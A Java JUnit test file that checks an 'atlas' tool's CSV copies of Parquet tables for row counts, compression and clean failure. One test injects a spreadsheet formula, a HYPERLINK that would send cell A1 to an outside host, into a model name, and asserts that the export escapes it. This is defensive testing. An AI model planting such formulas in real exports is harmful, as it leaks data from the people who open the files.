package org.sovereignai.jobs.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.sovereignai.atlas.Atlas;
import org.sovereignai.jobs.run.SparkExtension;
import org.sovereignai.schemas.manifest.Manifest;

/** The CSV files of an atlas against the Parquet files beside it. */
@ExtendWith(SparkExtension.class)
class AtlasTablesTest {

    private static final long ROWS_AS_CSV = 20_000;

    /** Of large tables some rows, which are still more than a release gives as plain CSV. */
    @Test
    void copyHasEveryTableAsCsvWithAllItsRowsTheSameEveryTime(@TempDir Path folder) throws IOException, SQLException {
        Path release = Releases.starter();
        Path some = folder.resolve("some");
        Manifest manifest = Releases.starter(some, ROWS_AS_CSV + 1);
        Path copy = folder.resolve("copy");

        Atlas.of(some, manifest).writeCopy(copy);

        for (JsonNode table : tables(some)) {
            String name = table.path("name").asText();
            Path csv = copy.resolve("csv/" + name + ".csv");
            assertThat(rows(csv)).as(name).isEqualTo(table.path("rows").asLong());
            if (Files.exists(csv(release, name))) {
                assertThat(csv).hasSameBinaryContentAs(csv(release, name));
            }
        }
    }

    @Test
    void copyThatCannotBeMadeLeavesNothing(@TempDir Path folder) throws IOException {
        Path out = folder.resolve("out");
        Path release = OldRelease.in(out);
        Path manifest = release.resolve("datapackage.json");
        ObjectNode more = (ObjectNode) new ObjectMapper().readTree(manifest.toFile());
        ((ArrayNode) more.path("resources"))
                .addObject()
                .put("name", "citation")
                .put("path", "CITATION.txt")
                .put("title", "Citation");
        Files.writeString(manifest, more.toString());

        Command command = Command.run("atlas", "--out", out, "--to", folder.resolve("public"));

        assertThat(command.code()).isEqualTo(3);
        assertThat(command.err())
                .isEqualTo("%s is not there; restore the release from a copy, or make it again.%n"
                        .formatted(release.resolve("CITATION.txt")));
        assertThat(folder.toFile().list()).containsExactly("out");
    }

    @Test
    void releaseHasEveryTableAsCsvWithAllItsRowsLargeOnesCompressed() throws IOException, SQLException {
        Path release = Releases.starter();
        for (JsonNode table : tables(release)) {
            String name = table.path("name").asText();
            long rows = table.path("rows").asLong();
            Path plain = csv(release, name);
            Path compressed = plain.resolveSibling(name + ".csv.gz");
            Path file = name.equals("indicator_value")
                    ? release.resolve("indicators.csv")
                    : rows > ROWS_AS_CSV ? compressed : plain;
            assertThat(rows(file)).as(name).isEqualTo(rows);
            assertThat(Stream.of(plain, compressed, file).filter(Files::exists).distinct())
                    .as(name)
                    .containsExactly(file);
        }
    }

    private static long rows(Path csv) throws SQLException {
        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = duckdb.createStatement();
                ResultSet rows = statement.executeQuery("SELECT count(*) FROM read_csv('" + csv
                        + "', header = true, all_varchar = true, delim = ',', quote = '\"', escape = '\"')")) {
            rows.next();
            return rows.getLong(1);
        }
    }

    @Test
    void noTextIsAFormula(@TempDir Path folder) throws IOException, SQLException {
        Path release = OldRelease.in(folder);
        Path models = release.resolve("model_release.parquet");
        String hostile = "=HYPERLINK(\"https://example.org/?\"&A1,\"model\")";
        execute("""
                COPY (SELECT * REPLACE (
                    CASE WHEN model_name = (SELECT min(model_name) FROM '%1$s') THEN '%2$s' ELSE model_name END AS model_name)
                    FROM '%1$s') TO '%1$s'
                """.formatted(models, hostile));
        Manifest manifest = Manifest.parse(Files.readString(release.resolve("datapackage.json")));

        Atlas.of(release, manifest).writeIntoRelease();

        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = duckdb.createStatement();
                ResultSet found = statement.executeQuery("SELECT model_name FROM read_csv('"
                        + csv(release, "model_release")
                        + "', header = true, all_varchar = true) WHERE contains(model_name, 'HYPERLINK')")) {
            assertThat(found.next()).isTrue();
            assertThat(found.getString(1)).isEqualTo("'" + hostile);
        }
    }

    private static void execute(String statement) throws SQLException {
        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                Statement all = duckdb.createStatement()) {
            all.execute(statement);
        }
    }

    private static List<JsonNode> tables(Path release) throws IOException {
        List<JsonNode> tables = new ArrayList<>();
        for (JsonNode resource : new ObjectMapper()
                .readTree(release.resolve("datapackage.json").toFile())
                .path("resources")) {
            if (resource.has("schema")) {
                tables.add(resource);
            }
        }
        return tables;
    }

    private static Path csv(Path release, String table) {
        return release.resolve("atlas/csv").resolve(table + ".csv");
    }

    private static List<String> files(Path release) throws IOException {
        try (Stream<Path> files = Files.list(release)) {
            return files.filter(Files::isRegularFile)
                    .map(file -> file.getFileName().toString())
                    .toList();
        }
    }
}
